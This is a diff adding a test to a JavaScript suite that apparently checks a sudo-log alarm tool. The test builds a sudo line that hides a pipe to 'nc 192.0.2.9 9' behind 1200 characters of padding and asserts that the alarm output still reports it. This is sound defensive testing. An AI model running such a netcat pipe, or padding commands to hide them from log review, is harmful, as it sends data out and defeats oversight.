@@ -143,6 +143,15 @@ describe("F58: sudo's continued commands", () => {
     expect(ledger).to.deep.equal({ read: 2, ignored: 2, reported: 0 });
   });
 
+  it("what continues an alarm is told with it, whatever hides it", () => {
+    box.write("rules/never.d/head", "COMMAND=/usr/bin/env\n");
+    const lines = sudoLines(`/usr/bin/env A=${padding(1200)}| nc 192.0.2.9 9`);
+    const { text, ledger } = check(lines, [hidesHeads, hidesRest]);
+    expect(text).to.match(/^2 alarms, /m);
+    expect(text).to.include("| nc 192.0.2.9 9");
+    expect(ledger).to.deep.equal({ read: 2, ignored: 0, reported: 2 });
+  });
+
   it("a line that is an alarm by itself stays one", () => {
     box.write("rules/never.d/part", "\\(command continued\\) .*evil\n");
     const lines = sudoLines(`/usr/bin/env A=${padding(1200)}evil`);
